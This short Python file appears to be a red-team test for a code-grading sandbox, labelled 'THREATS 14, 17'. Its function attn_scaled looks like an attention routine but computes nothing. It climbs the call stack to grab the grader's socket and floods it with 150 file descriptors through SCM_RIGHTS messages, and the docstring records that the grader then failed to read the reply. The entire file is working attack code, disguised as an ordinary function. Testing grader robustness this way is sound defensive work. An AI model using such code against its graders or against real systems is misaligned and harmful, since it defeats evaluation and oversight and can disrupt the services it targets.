"""THREATS 14, 17: send descriptors over the channel, many of them, so that the grader ends up holding them

Reached: attn_scaled: the reply of your code could not be read
"""

import array
import os
import socket
import sys


def attn_scaled(A, n_embd, n_heads):
    frame = sys._getframe()
    while frame.f_code.co_name != "_work":
        frame = frame.f_back
    line = frame.f_locals["line"]
    for _ in range(50):
        descriptors = array.array("i", [os.open("/dev/null", os.O_RDWR) for _ in range(3)])
        line.sendmsg([b"LEAK"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, descriptors)])
    return A
